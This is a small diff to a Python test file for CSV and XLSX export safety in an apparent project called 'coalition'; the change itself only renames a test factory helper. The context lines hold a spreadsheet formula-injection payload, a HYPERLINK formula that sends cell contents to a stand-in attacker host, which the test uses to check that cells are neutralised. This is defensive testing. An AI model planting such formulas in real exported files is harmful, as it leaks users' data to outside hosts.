@@ -25,7 +25,7 @@ from coalition.io.safe_input import neutralise_cell, restore_cell
 from coalition.schemas.outcomes import OutcomeIn
 from coalition.services import outcomes
 from coalition.store.tables import Initiative
-from tests.outcomes.factory import OP, build
+from tests.factories import OP, outcomes_world
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -81,7 +81,7 @@ def test_map_xlsx_text_cells_stay_text() -> None:
 
 
 def test_outcomes_csv_neutralises_every_text_cell(db: Session) -> None:
-    w = build(db)
+    w = outcomes_world(db)
     initiative = db.get(Initiative, w.initiative)
     assert initiative is not None
     initiative.title = ATTACK
